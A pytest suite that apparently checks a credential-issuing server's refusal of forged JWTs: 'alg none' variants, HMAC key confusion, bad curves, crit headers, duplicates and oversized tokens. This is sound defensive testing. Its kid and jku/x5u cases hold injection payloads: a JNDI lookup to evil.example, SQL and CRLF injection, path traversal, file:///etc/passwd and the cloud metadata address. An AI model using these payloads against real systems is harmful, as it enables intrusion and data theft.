"""Attacks on JWT signatures at every place where a JWT of somebody else is judged."""

from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from tests.http import forgery
from tests.http.issued import decoded
from tests.http.slots import EMBEDDED_KEY_SLOTS, JWT_SLOTS, Slot, slot
from tests.protocol.jwts import KEY_384, b64, make_jwt, public_jwk
from tests.support import raw_http
from tests.support.raw_wallet import ABSENT, Key, RawWallet, error_of
from tests.support.server import RunningServer


@pytest.fixture
def at(server: RunningServer, wallet: RawWallet, name: str) -> Slot:
    """The slot a test is run for."""
    return slot(name, server, wallet)


@JWT_SLOTS
class TestEverySlot:
    @pytest.mark.rule("E-01", "G-14")
    def test_unsigned(self, at: Slot) -> None:
        header, payload, signature = at.good().split(".")
        spellings = ("none", "None", "NONE", "nOnE", " none", "none ", "", "null")
        no_texts: list[Any] = [None, ABSENT, [], ["ES256"], 0]
        at.assert_all_refused(
            {
                **{f"alg {alg!r}": at.bent(header={"alg": alg}) for alg in spellings},
                **{f"alg {alg!r}, empty": forgery.with_signature(at, b"", {"alg": alg}) for alg in spellings},
                **{f"alg {alg!r}": at.bent(header={"alg": alg}) for alg in no_texts},
                "empty signature": f"{header}.{payload}.",
                "no signature": f"{header}.{payload}",
                "signature alone": f"..{signature}",
            }
        )

    @pytest.mark.rule("E-02", "G-14")
    def test_the_public_key_as_a_shared_secret(self, at: Slot) -> None:
        published = at.wallet.http.get(f"{at.wallet.issuer}/jwks.json").content
        secrets = {**forgery.public_key_spellings(at.key), "key set": published}
        at.assert_all_refused(
            {
                f"{algorithm}, {what}": forgery.with_hmac(at, algorithm, secret)
                for algorithm in ("HS256", "HS384", "HS512")
                for what, secret in secrets.items()
            }
        )

    @pytest.mark.rule("E-03", "G-14")
    def test_algorithms_off_the_list(self, at: Slot) -> None:
        names = ("ES256K", "ES384", "ES512", "PS256", "PS512", "RS256", "EdDSA", "Ed25519", "ESP256", "es256", "ES256 ")
        at.assert_all_refused({f"alg {alg!r}": at.bent(header={"alg": alg}) for alg in names})

    @pytest.mark.rule("E-05")
    def test_a_key_named_by_kid(self, at: Slot) -> None:
        names: list[Any] = [
            "../../../../dev/null",
            "/dev/null",
            "x' OR '1'='1",
            "x\r\nX-Injected: 1",
            "x\0",
            "${jndi:ldap://evil.example/x}",
            "https://evil.example/jwks.json",
            "k" * 5000,
            "",
            ["x"],
            {"$ne": None},
            0,
            None,
            f"{at.header.get('kid')} ",
        ]
        at.assert_all_refused({f"kid {str(kid)[:40]!r}": at.bent(header={"jwk": ABSENT, "kid": kid}) for kid in names})

    @pytest.mark.rule("E-06")
    def test_keys_from_elsewhere(self, at: Slot) -> None:
        own = Key()
        with forgery.canary() as (url, hits):
            places = (f"{url}/jwks.json", f"{url}/cert.pem", "file:///etc/passwd", "http://169.254.169.254/")
            at.assert_all_refused(
                {
                    **{
                        f"{name} {place}": at.bent(
                            header={"jwk": ABSENT, "kid": own.thumbprint, name: place}, key=own.private
                        )
                        for name in ("jku", "x5u")
                        for place in places
                    },
                    "iss": at.bent(header={"jwk": ABSENT, "kid": "x"}, payload={"iss": url}, key=own.private),
                }
            )
            assert hits == []

    @pytest.mark.rule("E-08")
    def test_critical_extensions(self, at: Slot) -> None:
        extensions: list[dict[str, Any]] = [
            {"crit": ["x"], "x": 1},
            {"crit": ["x"]},
            {"crit": ["exp"]},
            {"crit": ["alg"]},
            {"crit": []},
            {"crit": "b64"},
            {"crit": None},
            {"crit": ["b64"], "b64": True},
            {"crit": ["b64"], "b64": False},
            {"b64": False},
            {"b64": True},
        ]
        at.assert_all_refused({str(extension): at.bent(header=extension) for extension in extensions})

    @pytest.mark.rule("E-09", "C-24", "G-14")
    def test_the_type(self, at: Slot) -> None:
        types = ("at+jwt", "dpop+jwt", "openid4vci-proof+jwt", "dc+sd-jwt", "kb+jwt", "JWT", "oauth-authz-req+jwt", "")
        others: list[Any] = [*(one for one in types if one != at.header["typ"]), ABSENT, None, [at.header["typ"]]]
        others += [at.header["typ"].upper(), f"application/{at.header['typ']}", f"{at.header['typ']} "]
        at.assert_all_refused({f"typ {typ!r}": at.bent(header={"typ": typ}) for typ in others})

    @pytest.mark.rule("E-10", "E-18")
    def test_names_that_occur_twice(self, at: Slot) -> None:
        at.assert_all_refused(forgery.duplicated(at))

    @pytest.mark.rule("E-18")
    def test_escapes_mean_what_they_spell(self, at: Slot) -> None:
        assert at.send(forgery.escaped(at)).status_code == 200
        again = at.send(at.good())
        # The `jti` or the `c_nonce` was spent under whatever spelling; the access token is the same one.
        spent = {"key proof": (400, "invalid_nonce"), "access token": (400, "invalid_nonce")}
        assert error_of(again) == spent.get(at.name, at.refusal)

    @pytest.mark.rule("E-11")
    def test_json_serializations(self, at: Slot) -> None:
        for token in (forgery.flattened(at), forgery.general(at)):
            answer = at.send(token)
            if at.name == "access token":
                # Two credentials, as far as the header's grammar goes.
                assert error_of(answer) == (400, "invalid_request")
            else:
                at.assert_refused(answer)
        at.assert_kept()

    @pytest.mark.rule("E-12")
    def test_degenerate_signatures(self, at: Slot) -> None:
        at.assert_all_refused(forgery.degenerate_signatures(at))

    @pytest.mark.rule("E-13")
    def test_a_key_of_another_curve(self, at: Slot) -> None:
        jwk = {"jwk": public_jwk(KEY_384)} if "jwk" in at.header else {}
        at.assert_all_refused(
            {
                "ES256": at.bent(header=jwk, key=KEY_384),
                "ES384, jwk unchanged": at.bent(header={"alg": "ES384"}, key=KEY_384),
                "ES256, cut": forgery.with_signature(at, b"\x01" * 96, jwk),
            }
        )

    @pytest.mark.rule("E-15")
    def test_too_large(self, at: Slot) -> None:
        at.assert_all_refused(
            {
                "long kid": at.bent(header={"x_long": "x" * 7000}),
                "long claim": at.bent(payload={"x_long": "x" * 7000}),
                "dots": "." * 8000,
                "deep": forgery.literal_claim(at, "x_deep", "[" * 2000 + "]" * 2000),
            }
        )
        at = at.anew()
        huge = {"megabyte": at.bent(header={"x": "x" * 1_000_000}), "dots": "." * 100_000}
        for what, token in huge.items():
            sent = at.message(token)
            # The server may close the connection before it has read all of it.
            answer = raw_http.exchange(sent.url, sent.octets())
            assert answer.status in (0, 400, 413, 431), what
        at.assert_kept()

    @pytest.mark.rule("E-16", "D-05")
    def test_numbers_that_are_none(self, at: Slot) -> None:
        claim = "exp" if at.name == "access token" else "iat"
        literals = (
            f'"{at.payload[claim]}"', "true", "null", "[]", "{}", "-1", "1e400", "-1e400", "NaN", "Infinity",
            "-Infinity", "9" * 5000, "1e5000", "0x71", "1_900_000_000", "+1", "01",
        )  # fmt: skip
        at.assert_all_refused(
            {
                **{f"{claim} {text[:20]}": forgery.literal_claim(at, claim, text) for text in literals},
                f"no {claim}": at.bent(payload={claim: ABSENT}),
            }
        )

    @pytest.mark.rule("E-17")
    def test_other_spellings_of_the_same_octets(self, at: Slot) -> None:
        at.assert_all_refused(forgery.respelled_segments(at))

    @pytest.mark.rule("E-19")
    def test_encrypted_for_the_server(self, at: Slot) -> None:
        keys = at.wallet.http.get(f"{at.wallet.issuer}/jwks.json").json()["keys"]
        assert keys
        at.assert_all_refused({f"for {key['kid']}": forgery.encrypted(at, key) for key in keys})


@EMBEDDED_KEY_SLOTS
class TestEmbeddedKeys:
    @pytest.mark.rule("E-13", "D-07")
    def test_keys_that_are_none(self, at: Slot) -> None:
        jwk = at.header["jwk"]
        zero, ones = b64(b"\x00" * 32), b64(b"\xff" * 32)
        flipped = ("B" if jwk["y"][0] == "A" else "A") + jwk["y"][1:]
        keys: dict[str, Any] = {
            "Ed25519": {"kty": "OKP", "crv": "Ed25519", "x": jwk["x"]},
            "secp256k1": {**jwk, "crv": "secp256k1"},
            "P-384 by name": {**jwk, "crv": "P-384"},
            "no curve": {"kty": "EC", "x": jwk["x"], "y": jwk["y"]},
            "off the curve": {**jwk, "y": flipped},
            "zero point": {**jwk, "x": zero, "y": zero},
            "beyond the prime": {**jwk, "x": ones},
            "short": {**jwk, "x": jwk["x"][:-2]},
            "long": {**jwk, "x": b64(b"\x00" + b"\x01" * 32)},
            "no y": {**jwk, "y": None},
            "numbers": {**jwk, "x": 1, "y": 2},
            "for encryption": {**jwk, "use": "enc"},
            "for signing": {**jwk, "key_ops": ["sign"]},
            "of another algorithm": {**jwk, "alg": "ES384"},
            "text": "x",
            "list": [jwk],
        }
        at.assert_all_refused({what: at.bent(header={"jwk": key}) for what, key in keys.items()})

    @pytest.mark.rule("E-14")
    def test_rsa_extremes(self, at: Slot) -> None:
        moduli = {"512 bit": b"\xc1" * 64, "16 k bit": b"\xc1" * 2048, "even": b"\xc1" * 255 + b"\xc0"}
        exponents = {"65537": b"\x01\x00\x01", "1": b"\x01", "even": b"\x02", "huge": b"\x01" * 256}
        for what, modulus in moduli.items():
            for exponent in exponents.values():
                key = {"kty": "RSA", "n": b64(modulus), "e": b64(exponent)}
                for algorithm in ("RS256", "PS256", "ES256"):
                    token = forgery.with_signature(at, b"\x01" * 256, {"alg": algorithm, "jwk": key})
                    answer = at.send(token)
                    at.assert_refused(answer)
                    # Nothing is computed with such a key.
                    assert answer.elapsed.total_seconds() < 1, what
        at.assert_kept()

    @pytest.mark.rule("G-14", "DP-07")
    def test_no_private_key(self, at: Slot) -> None:
        number = b64(at.key.private_numbers().private_value.to_bytes(32, "big"))
        secrets: list[dict[str, Any]] = [{"d": number}, {"d": ""}, {"d": None}, {"k": number}, {"p": "x", "q": "y"}]
        at.assert_all_refused({str([*one]): at.bent(header={"jwk": {**at.header["jwk"], **one}}) for one in secrets})

    @pytest.mark.rule("G-13")
    def test_clocks_ahead(self, at: Slot) -> None:
        now = at.payload["iat"]
        for claims in ({"iat": now + 61}, {"iat": now + 120}, {"nbf": now + 61}, {"nbf": now + 3600}):
            at.assert_refused(at.send(at.bent(payload=claims)))
        assert at.send(at.bent(payload={"iat": now + 10, "nbf": now + 10})).status_code == 200


@pytest.mark.rule("E-04")
def test_an_access_token_brings_no_key_of_its_own(server: RunningServer, wallet: RawWallet) -> None:
    at = slot("access token", server, wallet)
    own = Key()
    chain = ["MIIB"]
    at.assert_all_refused(
        {
            "jwk": at.bent(header={"jwk": own.public_jwk}, key=own.private),
            "jwk alone": at.bent(header={"jwk": own.public_jwk, "kid": ABSENT}, key=own.private),
            "jwk and its kid": at.bent(header={"jwk": own.public_jwk, "kid": own.thumbprint}, key=own.private),
            "x5c": at.bent(header={"x5c": chain}, key=own.private),
            "x5c alone": at.bent(header={"x5c": chain, "kid": ABSENT}, key=own.private),
            "the wallet's key": at.bent(header={"jwk": wallet.key.public_jwk}, key=wallet.key.private),
        }
    )


@JWT_SLOTS
@pytest.mark.rule("C-24", "E-09")
def test_jwts_of_other_slots(server: RunningServer, name: str) -> None:
    # One key for everything the wallet signs, so that only the kind of JWT differs.
    key = Key()
    with server.wallet(key=key, holder=key) as wallet:
        at = slot(name, server, wallet)
        access_token = wallet.access_token()
        header, payload = (decoded(segment) for segment in access_token.split(".")[:2])
        credential = wallet.credential(access_token).json()["credentials"][0]["credential"]
        others = {
            "DPoP at PAR": slot("DPoP at PAR", server, wallet).good(),
            "DPoP at token": slot("DPoP at token", server, wallet).good(),
            "DPoP at credential": slot("DPoP at credential", server, wallet).good(),
            "key proof": slot("key proof", server, wallet).good(),
            "access token": access_token,
            "credential": credential,
            "credential's JWT": credential.split("~")[0],
            "access token by the wallet": make_jwt(header, payload, key.private),
        }
        del others[name]
        at.assert_all_refused(others)


def test_the_other_curves_of_dpop(server: RunningServer) -> None:
    """What the refusals above are worth: DPoP takes each of its algorithms with its own curve."""
    for algorithm, curve in (("ES384", ec.SECP384R1()), ("ES512", ec.SECP521R1())):
        with server.wallet() as wallet:
            at = slot("DPoP at PAR", server, wallet)
            private = ec.generate_private_key(curve)
            right = at.bent(header={"alg": algorithm, "jwk": public_jwk(private)}, key=private)
            assert at.send(right).status_code == 201
